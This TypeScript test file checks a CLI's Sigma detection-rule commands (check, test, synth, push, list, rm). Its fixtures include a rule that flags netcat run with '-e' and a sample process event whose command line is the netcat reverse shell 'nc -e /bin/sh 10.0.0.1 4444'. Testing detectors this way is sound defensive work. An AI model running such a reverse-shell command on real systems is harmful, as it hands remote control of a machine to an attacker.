import { after, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { ServerRuleSummary } from '@yamori/protocol';
import { serverOnSocket } from '../test-support.ts';
import { runSigma } from './sigma.ts';

function capture(): { io: { out: (t: string) => void; err: (t: string) => void }; out: string[]; err: string[] } {
  const out: string[] = [];
  const err: string[] = [];
  return { io: { out: (t) => out.push(t), err: (t) => err.push(t) }, out, err };
}

const dir = mkdtempSync(join(tmpdir(), 'yamori-sigma-cli-'));
after(() => rmSync(dir, { recursive: true, force: true }));
mkdirSync(join(dir, 'rules'));
writeFileSync(
  join(dir, 'rules/nc.yml'),
  `title: Netcat exec
id: cli-test-1
level: high
tags: [attack.t1059.004]
logsource: {product: linux, category: process_creation}
detection:
  sel:
    Image|endswith: /nc
    CommandLine|contains: ' -e '
  condition: sel
yamori:
  response: [kill_process]
`,
);
writeFileSync(join(dir, 'rules/bad.yml'), 'title: bad\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel:\n    Nope: x\n  condition: sel\n');
const ev = (exe: string, cl: string): string =>
  JSON.stringify({ '@timestamp': '2026-11-22T00:00:00Z', event: { id: 'evt-00000001', dataset: 'yamori.process', kind: 'event', category: ['process'], type: ['start'], action: 'exec' }, process: { entity_id: 'e', pid: 1, executable: exe, command_line: cl } });
writeFileSync(join(dir, 'events.jsonl'), [ev('/usr/bin/nc', 'nc -e /bin/sh 10.0.0.1 4444'), ev('/usr/bin/ls', 'ls -la'), '{not json', ''].join('\n'));

void test('check prints per-category counts and each failure with file:line and reason; exit 1 when a rule failed', async () => {
  const c = capture();
  assert.equal(await runSigma(['check', join(dir, 'rules')], c.io), 1);
  const text = c.out.join('\n');
  assert.match(text, /2 rule files: 1 compiled, 1 failed/);
  assert.match(text, /process_creation\s+1 \/ 2/);
  assert.ok(text.includes(`${join(dir, 'rules/bad.yml')}:5: unknown field Nope for category process_creation`), text);
  const j = capture();
  assert.equal(await runSigma(['check', join(dir, 'rules/nc.yml'), '--json'], j.io), 0);
  const report = JSON.parse(j.out.join('')) as { compiled: number; failed: number; categories: unknown[] };
  assert.deepEqual([report.compiled, report.failed, report.categories], [1, 0, [{ category: 'process_creation', compiled: 1, failed: 0 }]]);
});

void test('test reports which events match which rules and unreadable lines', async () => {
  const c = capture();
  assert.equal(await runSigma(['test', join(dir, 'rules/nc.yml'), join(dir, 'events.jsonl')], c.io), 1);
  assert.ok(c.out.some((l) => l.includes('events.jsonl:1: high') && l.includes('Netcat exec (cli-test-1)') && l.includes('response=kill_process')));
  assert.ok(c.err.some((l) => l.includes('events.jsonl:3: not JSON')));
  assert.match(c.out.at(-1) ?? '', /^2 events, 1 matched, 1 rules fired, 1 rules loaded, 1 unreadable lines$/);
  const j = capture();
  await runSigma(['test', join(dir, 'rules/nc.yml'), join(dir, 'events.jsonl'), '--json'], j.io);
  const lines = j.out.map((l) => JSON.parse(l) as Record<string, unknown>);
  assert.deepEqual(lines[0], { line: 1, matches: [{ id: 'cli-test-1', title: 'Netcat exec', level: 'high', techniques: ['T1059.004'], response: ['kill_process'] }] });
  assert.deepEqual(lines[1], { line: 2, matches: [] });
});

void test('synth prints a matching event per rule', async () => {
  const c = capture();
  assert.equal(await runSigma(['synth', join(dir, 'rules/nc.yml')], c.io), 0);
  const e = JSON.parse(c.out[0] ?? '') as { process: { executable: string; command_line: string } };
  assert.ok(e.process.executable.endsWith('/nc') && e.process.command_line.includes(' -e '));
});

void test('bad flags, subcommands and paths exit 2 with a clear message', async () => {
  for (const args of [['check', '--bogus'], ['frobnicate'], [], ['check'], ['test', 'only-one'], ['check', join(dir, 'missing')]]) {
    const c = capture();
    assert.equal(await runSigma(args, c.io), 2, args.join(' '));
    assert.match(c.err.join('\n'), /yamori sigma: /);
  }
});

void test('push, list and rm the tenant\'s server rules; a refused rule is shown as file:line: reason and the others still go in', async (t) => {
  const s = await serverOnSocket(t);
  const run = async (args: string[], env: NodeJS.ProcessEnv = s.env) => {
    const c = capture();
    const code = await runSigma(args, { ...c.io, env });
    return { code, out: c.out.join('\n'), err: c.err.join('\n') };
  };
  // rules/ holds nc.yml (good) and bad.yml (unknown field, no id).
  const pushed = await run(['push', join(dir, 'rules')]);
  assert.equal(pushed.code, 1, pushed.err);
  assert.match(pushed.out, /pushed .*nc\.yml: Netcat exec \(cli-test-1\), enabled/);
  assert.match(pushed.err, /bad\.yml:5: .*Nope/);
  assert.match(pushed.out, /1 pushed, 1 refused$/);
  const again = await run(['push', join(dir, 'rules/nc.yml'), '--json']);
  assert.equal(again.code, 1);
  assert.match(again.err, /already exists/);

  const list = await run(['list', '--json']);
  assert.equal(list.code, 0, list.err);
  const rules = JSON.parse(list.out) as ServerRuleSummary[];
  assert.deepEqual(rules.map((r) => [r.sigmaId, r.title, r.level, r.enabled]), [['cli-test-1', 'Netcat exec', 'high', true]]);
  assert.match((await run(['list'])).out, /enabled {3}high {10}cli-test-1 {2}Netcat exec$/);

  const ro = await run(['rm', 'cli-test-1'], { ...s.env, YAMORI_TOKEN: s.readOnly });
  assert.equal(ro.code, 1);
  assert.match(ro.err, /read-only/);
  const rm = await run(['rm', 'cli-test-1']);
  assert.equal(rm.code, 0, rm.err);
  assert.match(rm.out, /deleted server rule Netcat exec \(cli-test-1\)/);
  assert.equal((await run(['list'])).out, 'no server rules');
  assert.equal((await run(['rm', 'cli-test-1'])).code, 1);

  const disabled = await run(['push', join(dir, 'rules/nc.yml'), '--disabled']);
  assert.equal(disabled.code, 0, disabled.err);
  assert.match(disabled.out, /, disabled/);
  for (const args of [['push'], ['list', 'x'], ['rm'], ['push', join(dir, 'missing.yml')]]) assert.equal((await run(args)).code, 2, args.join(' '));
  assert.equal((await run(['list'], { YAMORI_URL: s.env.YAMORI_URL })).code, 2, 'no token');
});
